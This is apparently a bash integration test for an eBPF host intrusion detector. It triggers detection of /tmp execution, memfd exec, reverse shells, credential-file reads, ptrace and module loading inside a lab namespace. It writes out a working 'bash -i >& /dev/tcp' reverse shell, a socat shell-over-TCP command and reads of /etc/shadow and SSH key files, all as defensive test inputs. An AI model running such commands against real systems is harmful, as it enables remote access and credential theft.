#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Host detectors on real behaviour, with the `run` daemon writing findings:
#
#   - exec from /tmp and /dev/shm (a copy of /bin/true): exec_tmp_detected
#     with file.path; memfd exec (irc_memexec /bin/true): fileless_detected,
#     reported only with action alert, killed (137) with action kill;
#   - reverse shell, `bash -i >& /dev/tcp/H/P 0>&1` from the protected host
#     to a socat listener on a test host: with action kill, killed by the
#     kernel (137) and the listener sees the connection close; with action
#     alert, reported, and the shell lives on (its prompt reaches the
#     listener) until the listener ends it.  Also a shell exec'd with a
#     TCP socket on stdin (socat EXEC:/bin/sh,nofork), the exec-time check;
#   - sensitive_read: cat /etc/shadow is reported (file.path, process.name);
#     head, in the policy's 'allowed' list, is not;
#   - ptrace: strace -p on a sleep: ptrace_detected with target_pid;
#   - module_load: insmod of a file that is no module (the kernel refuses
#     it; nothing is ever loaded), when this kernel has module support;
#   - quarantine-process (for exec_tmp): the kernel itself puts the /tmp
#     program (a copy of bash) in process quarantine: list shows a pid entry
#     made by the detector, and its connect fails with EPERM, while the same
#     script run by /bin/bash connects;
#   - monitor mode with the strongest actions everywhere: every detector
#     reports what it would have done (enforced false) and nothing is done:
#     no kill, no process quarantine;
#   - scope: the detectors act only below the cgroup root the hooks are
#     attached to (the test's cgroup): the same memfd exec and read of
#     /etc/shadow by this script, outside it, are neither killed nor
#     reported.
#
# Each case runs in a cgroup of its own under the test's cgroup, and its
# findings are picked by that cgroup's id (or by a PID or a path only this
# test uses).
. "$(dirname "$0")/lib.sh"
need_tools insmod mkfifo

EV=$IRC_TMP/events.jsonl
POL=$IRC_TMP/policy.yaml
MEMEXEC=$IRC_ROOT/build/tests/helpers/irc_memexec
H1=10.77.1.2
RS_PORT=7701 RS2_PORT=7702 RSE_PORT=7703 QP_PORT=7704 MON_PORT=7705
XTMP=/tmp/irc-x-$$ XSHM=/dev/shm/irc-x-$$ QTMP=/tmp/irc-q-$$
FIFO=$IRC_TMP/go.fifo

# The files outside the lab: removed on every exit path, before the lab.
trap 'rc=$?; rm -f "$XTMP" "$XSHM" "$QTMP"; (exit $rc); lab_finish' EXIT

# policy MODE EXEC_TMP FILELESS REVSHELL SENSITIVE PTRACE MODULE: actions.
policy() {
	cat >"$POL" <<EOF
mode: $1
detectors:
  portscan: {enabled: false}
  synflood: {enabled: false}
  exec_tmp: {enabled: true, severity: medium, action: $2, ttl: 5m}
  fileless: {enabled: true, severity: high, action: $3}
  reverse_shell: {enabled: true, severity: critical, action: $4}
  sensitive_read:
    enabled: true
    severity: high
    action: $5
    files: [/etc/shadow, /etc/gshadow, $IRC_TMP/keys/id_*, $IRC_TMP/keys/known]
    allowed: [/usr/bin/head, /usr/sbin/sshd]
  ptrace: {enabled: true, severity: medium, action: $6}
  module_load: {enabled: true, severity: high, action: $7}
EOF
	irc policy apply "$POL" >"$IRC_TMP/apply.out" 2>&1 || {
		cat "$IRC_TMP/apply.out"
		return 1
	}
}

# cgid NAME: the id of the test's cgroup NAME (created if needed).
cgid() { mkdir -p "$IRC_CG/$1" && stat -c %i "$IRC_CG/$1"; }

# evq FILTER: every complete finding selected by FILTER, compact.  (The file
# holds every exec, fork and exit on the machine; findings are the only
# event.kind "alert" lines, so jq reads only those.)
evq() { grep -F '"kind":"alert"' "$EV" | jq -cR "fromjson? | select($1)" 2>/dev/null; }
# fnd DETECTOR CGROUP: the findings of DETECTOR for processes in CGROUP.
fnd() { evq ".event.action == \"$1_detected\" and .ircontain.cgroup_id == $(cgid "$2")"; }
has_fnd() { [[ -n $(fnd "$1" "$2") ]]; }
# is JSON FILTER: FILTER is true of the (first) finding (shows it if not).
is() {
	local j=${1%%$'\n'*}
	if [[ -z $j ]]; then echo "no such finding"; return 1; fi
	jqx "$2" <<<"$j" || { echo "$j" | cut -c1-1500; return 1; }
}
# none DETECTOR CGROUP: no such finding.
none() {
	local n
	n=$(fnd "$1" "$2" | wc -l)
	((n == 0)) || { echo "$n finding(s):"; fnd "$1" "$2" | head -2; return 1; }
}
# procs CGROUP: the PIDs in it.  comm_in CGROUP NAME: one of them is NAME.
procs() { cat "$IRC_CG/$1/cgroup.procs" 2>/dev/null; }
comm_in() {
	local p
	for p in $(procs "$1"); do
		[[ $(cat "/proc/$p/comm" 2>/dev/null) == "$2" ]] && return 0
	done
	return 1
}
# pid_of CGROUP NAME: the PID of the process named NAME in CGROUP.
pid_of() {
	local p
	for p in $(procs "$1"); do
		[[ $(cat "/proc/$p/comm" 2>/dev/null) == "$2" ]] && { echo "$p"; return 0; }
	done
	return 1
}
empty_cg() { [[ -z $(procs "$1") ]]; }
# gone PID: exited (a zombie counts: it no longer runs).
gone() { [[ ! -e /proc/$1 || $(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null) == Z ]]; }
# listen PORT LOG OUT: a one-connection socat listener on host 1 that
# writes what it receives to OUT and its log (-d -d) to LOG; sets SPID.
listen() {
	bg ip netns exec "${IRC_NS_PFX}h1" socat -d -d -u \
		"TCP4-LISTEN:$1,reuseaddr" "OPEN:$3,creat,append" 2>"$2"
	SPID=$!
	wait_for 5 in_h 1 sh -c "ss -Htln sport = :$1 | grep -q ."
}
# revshell CGROUP PORT: the classic reverse shell, from the protected host,
# in the test cgroup CGROUP, bounded to 8 s.
revshell() {
	cg_run "$1" ip netns exec "$IRC_NS_P" timeout 8 \
		bash -c "bash -i >& /dev/tcp/$H1/$2 0>&1"
}
# ended_by_eof RC: a shell's status when its input went away: 0, or 141
# if it was writing its prompt to the closed socket (not 137, not 124).
ended_by_eof() { [[ $1 == 0 || $1 == 141 ]] || { echo "status $1"; return 1; }; }
# tmpnet CGROUP PROGRAM PORT: PROGRAM (a bash) in CGROUP and the protected
# host waits for a line on the FIFO, then connects to host 1's PORT and
# prints "connected" or bash's error; then waits again.  Output in
# $IRC_TMP/CGROUP.out.
tmpnet() {
	bg cg_run "$1" ip netns exec "$IRC_NS_P" timeout 15 "$2" -c '
		echo ready
		read -r _ <"$1"
		{ exec 3<>"/dev/tcp/$2/$3"; } 2>&1 && echo connected
		read -r _ <"$1"' tmpnet "$FIFO" "$H1" "$3" >"$IRC_TMP/$1.out"
}
go() { timeout 2 sh -c "echo go >'$FIFO'"; }
pid_entry() { # PID FILTER: list has a pid entry for PID satisfying FILTER
	ircq "[.entries[] | select(.kind == \"pid\" and .target == \"$1\")] | length == 1 and (.[0] | $2)" list
}
no_pid_entry() {
	ircq "[.entries[] | select(.kind == \"pid\" and .target == \"$1\")] | length == 0" list
}

lab_up 1 || { not_ok "lab up"; exit 1; }
check_rc "load --iface iv1" 0 irc load --iface iv1
mkfifo "$FIFO"
# The key files of sensitive_read's patterns, before any policy resolves them.
mkdir -p "$IRC_TMP/keys" && echo k >"$IRC_TMP/keys/id_rsa" && echo k >"$IRC_TMP/keys/id" &&
	echo k >"$IRC_TMP/keys/id_rsa.pub" && echo k >"$IRC_TMP/keys/known_hosts"
# Another instance whose cgroup root is above this test's (the cgroup2
# root, say) watches this test's processes too, and may act on them in
# enforce mode: say so, it would explain a surprise.
others=$(find /sys/fs/bpf -mindepth 3 -maxdepth 3 -path '*/links/proc_irc_dup2' \
	! -path "$IRC_PIN_DIR/*" 2>/dev/null | wc -l)
((others == 0)) || echo "# note: $others other ircontain instance(s) on this machine"
# A server on host 1 for the connects that are allowed.
bg ip netns exec "${IRC_NS_PFX}h1" socat "TCP4-LISTEN:$QP_PORT,reuseaddr,fork" OPEN:/dev/null
check "server on host 1" wait_for 5 in_h 1 sh -c "ss -Htln sport = :$QP_PORT | grep -q ."

bg nsenter --net="/run/netns/$IRC_NS_P" "$IRC_BIN" run --events-file "$EV" \
	2>"$IRC_TMP/daemon.err"
DPID=$!
daemon_ready() { [[ $(jq -r .pid "$IRCONTAIN_STATE_DIR/run.json" 2>/dev/null) == "$DPID" ]]; }
check "run: ready" wait_for 5 daemon_ready

# ---- enforce: kill for fileless and reverse_shell -----------------------------

check "policy apply: enforce, fileless kill, reverse_shell kill" \
	policy enforce alert kill kill alert alert alert

check_rc "memfd exec with action kill: killed (137)" 137 cg_run fl_kill "$MEMEXEC" /bin/true
check "fileless_detected: action kill, enforced true" wait_for 5 has_fnd fileless fl_kill
check "fileless finding: fields" is "$(fnd fileless fl_kill)" \
	'.event.kind == "alert" and .ircontain.finding.detector == "fileless" and .ircontain.finding.action == "kill" and .ircontain.finding.enforced == true and .ircontain.finding.severity == "high" and .event.outcome == "success" and (.file.path | startswith("/dev/fd/"))'

# Outside the test's cgroup (this script's own cgroup): out of scope.
"$MEMEXEC" /bin/true &
OUT_PID=$!
wait "$OUT_PID"
check "outside the cgroup root: memfd exec not killed" eq "$?" 0
cat /etc/shadow >/dev/null &
OUT_PID2=$!
wait "$OUT_PID2"

listen $RS_PORT "$IRC_TMP/rs.log" "$IRC_TMP/rs.out" || not_ok "listener on host 1:$RS_PORT"
check_rc "reverse shell with action kill: killed by the kernel (137)" 137 revshell rs_kill $RS_PORT
check "reverse shell: the listener had the connection" grep -q "accepting connection" "$IRC_TMP/rs.log"
check "reverse shell: the listener sees it closed (socat ends)" wait_for 3 gone "$SPID"
check "reverse shell: nothing of the shell reached the listener" eq "$(wc -c <"$IRC_TMP/rs.out")" 0
check "reverse_shell_detected: action kill, enforced true" wait_for 5 has_fnd reverse_shell rs_kill
check "reverse shell finding: fields" is "$(fnd reverse_shell rs_kill)" \
	'.ircontain.finding.action == "kill" and .ircontain.finding.enforced == true and .ircontain.finding.severity == "critical" and .process.name == "bash" and .event.severity == 99'

# The exec-time check: a shell started with a TCP socket on its stdin and
# stdout (socat connects, puts the socket on 0 and 1 and execs sh itself).
listen $RSE_PORT "$IRC_TMP/rse.log" "$IRC_TMP/rse.out" || not_ok "listener on host 1:$RSE_PORT"
check_rc "socat EXEC:/bin/sh,nofork: the shell is killed (137)" 137 \
	cg_run rs_exec ip netns exec "$IRC_NS_P" timeout 3 \
	socat "TCP4:$H1:$RSE_PORT" EXEC:/bin/sh,nofork
check "shell exec'd with a socket on fd 0-2: reverse_shell_detected, killed" \
	wait_for 5 has_fnd reverse_shell rs_exec
check "exec-time finding: the shell (sh), enforced" is "$(fnd reverse_shell rs_exec)" \
	'.process.name == "sh" and .ircontain.finding.enforced == true and .ircontain.finding.action == "kill"'

# As soon as possible: no kill action any more (the detectors see the whole
# machine).  exec_tmp now quarantines the process.
check "policy apply: enforce, exec_tmp quarantine-process, the rest alert" \
	policy enforce quarantine-process alert alert alert alert alert

# ---- enforce: alert actions ------------------------------------------------------

check_rc "memfd exec with action alert: runs (0)" 0 cg_run fl_alert "$MEMEXEC" /bin/true
check "fileless_detected with action alert: enforced false, outcome success" \
	wait_for 5 has_fnd fileless fl_alert
check "fileless alert finding: fields" is "$(fnd fileless fl_alert)" \
	'.ircontain.finding.action == "alert" and .ircontain.finding.enforced == false and .event.outcome == "success"'

listen $RS2_PORT "$IRC_TMP/rs2.log" "$IRC_TMP/rs2.out" || not_ok "listener on host 1:$RS2_PORT"
bg revshell rs_alert $RS2_PORT
RSB=$!
check "reverse shell with action alert: reverse_shell_detected" \
	wait_for 5 has_fnd reverse_shell rs_alert
check "alert finding: action alert, enforced false" is "$(fnd reverse_shell rs_alert)" \
	'.ircontain.finding.action == "alert" and .ircontain.finding.enforced == false'
check "the shell lives on: its prompt reached the listener" wait_for 5 test -s "$IRC_TMP/rs2.out"
sleep 0.3
check "the shell lives on: still running" comm_in rs_alert bash
kill "$SPID" 2>/dev/null
check "ended by the listener closing: the shell exits" wait_for 5 empty_cg rs_alert ||
	{ ps -o pid,stat,wchan:20,comm -p "$(procs rs_alert | paste -sd,)"; in_p ss -tnpo; }
wait "$RSB"
check "the shell ended by itself (0, or 141: SIGPIPE on the closed socket)" ended_by_eof $?

# exec from /tmp and /dev/shm (quarantine-process: the entries go with it)
cp /bin/true "$XTMP" && cp /bin/true "$XSHM"
check_rc "exec from /tmp: runs" 0 cg_run xtmp "$XTMP"
check_rc "exec from /dev/shm: runs" 0 cg_run xshm "$XSHM"
rm -f "$XTMP" "$XSHM"
check "exec_tmp_detected for the /tmp program" wait_for 5 has_fnd exec_tmp xtmp
check "exec_tmp finding: file.path is the /tmp path" is "$(fnd exec_tmp xtmp)" \
	".file.path == \"$XTMP\" and .ircontain.finding.detector == \"exec_tmp\" and .ircontain.finding.severity == \"medium\" and .event.severity == 47"
check "exec_tmp finding: process is the /tmp program (executable, name)" is "$(fnd exec_tmp xtmp)" \
	".process.executable == \"$XTMP\" and .process.name == \"${XTMP##*/}\""
check "exec_tmp_detected for the /dev/shm program, with its path" \
	wait_for 5 has_fnd exec_tmp xshm
check "exec_tmp finding (/dev/shm): file.path" is "$(fnd exec_tmp xshm)" ".file.path == \"$XSHM\""

# quarantine-process from the kernel
cp /bin/bash "$QTMP"
tmpnet qp "$QTMP" $QP_PORT
check "/tmp program started" wait_for 5 grep -qx ready "$IRC_TMP/qp.out"
QPID=$(pid_of qp "${QTMP##*/}")
check "exec_tmp with quarantine-process: finding, enforced true, ttl 300" \
	wait_for 5 has_fnd exec_tmp qp
check "quarantine-process finding: fields" is "$(fnd exec_tmp qp)" \
	".process.pid == $QPID and .file.path == \"$QTMP\" and .ircontain.finding.action == \"quarantine-process\" and .ircontain.finding.enforced == true and .ircontain.finding.ttl_s == 300"
check "list: a pid entry for the /tmp program (pid $QPID)" \
	pid_entry "$QPID" '.process_action == "deny" and .children == true and .ttl_remaining > 285 and .ttl_remaining <= 300'
check "list: the pid entry is the detector's (actor detector:exec_tmp, origin detector)" \
	pid_entry "$QPID" '.actor == "detector:exec_tmp" and .origin == "detector"'
go
check "quarantined /tmp program: connect fails with EPERM" \
	wait_for 3 grep -q "Operation not permitted" "$IRC_TMP/qp.out"
check "quarantined /tmp program: never connected" eq "$(grep -c connected "$IRC_TMP/qp.out")" 0
go
tmpnet qctl /bin/bash $QP_PORT
check "control: the same script by /bin/bash" wait_for 5 grep -qx ready "$IRC_TMP/qctl.out"
go
check "control: /bin/bash connects to host 1" wait_for 3 grep -qx connected "$IRC_TMP/qctl.out"
go
check "control: no exec_tmp finding for /bin/bash" none exec_tmp qctl
check "the /tmp program's entry goes when it exits" wait_for 5 no_pid_entry "$QPID"

# sensitive_read
check_rc "head /etc/shadow (head is allowed)" 0 cg_run sr_head head -c 1 /etc/shadow
check_rc "cat /etc/shadow" 0 cg_run sr_cat cat /etc/shadow
check "sensitive_read_detected for cat" wait_for 5 has_fnd sensitive_read sr_cat
check "sensitive_read finding: file.path /etc/shadow, process.name cat" \
	is "$(fnd sensitive_read sr_cat)" \
	'.file.path == "/etc/shadow" and .process.name == "cat" and .ircontain.finding.action == "alert" and .ircontain.finding.severity == "high"'
check "nothing for head, in the allowed list" none sensitive_read sr_head
check_rc "cat /etc/passwd (not in files)" 0 cg_run sr_other cat /etc/passwd
check_rc "cat /etc/gshadow (in files) after it" 0 cg_run sr_gsh cat /etc/gshadow
check "sensitive_read_detected for /etc/gshadow" wait_for 5 has_fnd sensitive_read sr_gsh
check "nothing for /etc/passwd" none sensitive_read sr_other
# A pattern ending in '*' is a prefix; without it, the whole path (the
# files were made before the policy was applied: see the top).
check_rc "cat keys/id_rsa (under the prefix keys/id_*)" 0 cg_run sr_pfx cat "$IRC_TMP/keys/id_rsa"
check "sensitive_read_detected for keys/id_rsa" wait_for 5 has_fnd sensitive_read sr_pfx
check_rc "cat keys/id_rsa.pub (under the prefix too)" 0 cg_run sr_pfx2 cat "$IRC_TMP/keys/id_rsa.pub"
check "sensitive_read_detected for keys/id_rsa.pub" wait_for 5 has_fnd sensitive_read sr_pfx2
check_rc "cat keys/id and keys/known_hosts (not matched)" 0 cg_run sr_nopfx cat "$IRC_TMP/keys/id" "$IRC_TMP/keys/known_hosts"
check "nothing for keys/id (shorter than the prefix) or keys/known_hosts (keys/known is exact)" none sensitive_read sr_nopfx

# ptrace
bg cg_run pt_target sleep 20
check "ptrace target started" wait_for 5 comm_in pt_target sleep
TPID=$(pid_of pt_target sleep)
cg_run pt_tracer timeout 1 strace -o /dev/null -p "$TPID" >/dev/null 2>&1
# (strace first seizes a child of its own, to test PTRACE_SEIZE: a finding
# too, with that child as its target.)
traced() { fnd ptrace "$1" | jq -c --argjson t "$2" 'select(.ircontain.finding.target_pid == $t)'; }
has_traced() { [[ -n $(traced "$@") ]]; }
check "ptrace_detected for strace -p $TPID (target_pid $TPID)" wait_for 5 has_traced pt_tracer "$TPID"
check "ptrace finding: process strace, alert" is "$(traced pt_tracer "$TPID")" \
	'.process.name == "strace" and .ircontain.finding.severity == "medium" and .ircontain.finding.action == "alert" and .ircontain.finding.enforced == false'
check "every ptrace finding of strace names the pid it attached to" \
	is "$(fnd ptrace pt_tracer | jq -s -c .)" 'all(.[]; .ircontain.finding.target_pid > 0)'
check "the traced process lives on" comm_in pt_target sleep

# module_load: only where the kernel has module support (the syscall
# tracepoints exist only then).
TP=/sys/kernel/tracing/events/syscalls
[[ -d $TP ]] || TP=/sys/kernel/debug/tracing/events/syscalls
if [[ -d $TP/sys_enter_finit_module ]]; then
	# Not a module: the kernel refuses it at the ELF check.  (kmod >= 30
	# never calls the syscall for an empty file such as /dev/null.)
	head -c 64 /dev/zero >"$IRC_TMP/notamodule.ko"
	check_fail "insmod of a file that is no module fails" cg_run ml insmod "$IRC_TMP/notamodule.ko"
	check "module_load_detected" wait_for 5 has_fnd module_load ml
else
	# Not a pass and not a skip: nothing is claimed.  The issue note says
	# module-load detection is untested on this kernel.
	echo "# module_load: not tested: this kernel has no module support (no sys_enter_finit_module tracepoint)"
fi

# ---- monitor: the strongest actions everywhere, none taken --------------------

check "policy apply: monitor, every host detector on kill / quarantine-process" \
	policy monitor quarantine-process kill kill kill kill kill
check_rc "monitor: memfd exec runs (0)" 0 cg_run m_fl "$MEMEXEC" /bin/true
check "monitor: fileless finding, would kill, enforced false" wait_for 5 has_fnd fileless m_fl
check "monitor fileless finding: fields" is "$(fnd fileless m_fl)" \
	'.ircontain.finding.action == "kill" and .ircontain.finding.enforced == false and .event.outcome == "unknown" and (.message | test("would kill"))'

cp /bin/bash "$QTMP"
tmpnet m_qp "$QTMP" $QP_PORT
check "monitor: /tmp program started" wait_for 5 grep -qx ready "$IRC_TMP/m_qp.out"
MPID=$(pid_of m_qp "${QTMP##*/}")
check "monitor: exec_tmp finding, would quarantine-process, enforced false" \
	wait_for 5 has_fnd exec_tmp m_qp
check "monitor exec_tmp finding: fields" is "$(fnd exec_tmp m_qp)" \
	".file.path == \"$QTMP\" and .ircontain.finding.action == \"quarantine-process\" and .ircontain.finding.enforced == false"
check "monitor: no pid entry for the /tmp program" no_pid_entry "$MPID"
go
check "monitor: the /tmp program connects" wait_for 3 grep -qx connected "$IRC_TMP/m_qp.out"
go
rm -f "$QTMP"

listen $MON_PORT "$IRC_TMP/m_rs.log" "$IRC_TMP/m_rs.out" || not_ok "listener on host 1:$MON_PORT"
bg revshell m_rs $MON_PORT
RSB=$!
check "monitor: reverse shell finding, would kill" wait_for 5 has_fnd reverse_shell m_rs
check "monitor reverse shell finding: fields" is "$(fnd reverse_shell m_rs)" \
	'.ircontain.finding.action == "kill" and .ircontain.finding.enforced == false'
check "monitor: the shell's prompt reached the listener" wait_for 5 test -s "$IRC_TMP/m_rs.out"
check "monitor: the shell is not killed" comm_in m_rs bash
kill "$SPID" 2>/dev/null
check "monitor: the shell ends when the listener does" wait_for 5 empty_cg m_rs
wait "$RSB"
check "monitor: the shell ended by itself, not killed" ended_by_eof $?

check_rc "monitor: cat /etc/shadow is not killed" 0 cg_run m_sr cat /etc/shadow
check "monitor: sensitive_read finding, would kill" wait_for 5 has_fnd sensitive_read m_sr
check "monitor sensitive_read finding: fields" is "$(fnd sensitive_read m_sr)" \
	'.ircontain.finding.action == "kill" and .ircontain.finding.enforced == false and .process.name == "cat"'

bg cg_run m_pt_target sleep 20
check "monitor: ptrace target started" wait_for 5 comm_in m_pt_target sleep
TPID=$(pid_of m_pt_target sleep)
check_rc "monitor: strace is not killed (timeout ends it: 124)" 124 \
	cg_run m_pt timeout 1 strace -o /dev/null -p "$TPID"
check "monitor: ptrace finding for target $TPID, would kill" wait_for 5 has_traced m_pt "$TPID"
check "monitor ptrace finding: fields" is "$(traced m_pt "$TPID")" \
	'.ircontain.finding.action == "kill" and .ircontain.finding.enforced == false'
if [[ -d $TP/sys_enter_finit_module ]]; then
	cg_run m_ml insmod "$IRC_TMP/notamodule.ko" >/dev/null 2>&1
	check "monitor: insmod not killed (exit 1)" eq "$?" 1
	check "monitor: module_load finding, would kill" wait_for 5 has_fnd module_load m_ml
else
	echo "# monitor module_load: not tested: this kernel has no module support"
fi

# Findings of the out-of-scope processes would have been written by now.
check "outside the cgroup root: no finding for the memfd exec or the read" \
	eq "$(evq ".process.pid == $OUT_PID or .process.pid == $OUT_PID2" | wc -l)" 0

kill -TERM "$DPID" 2>/dev/null
check "daemon: exits on SIGTERM" wait_for 3 gone "$DPID"
check_rc "unload" 0 irc unload
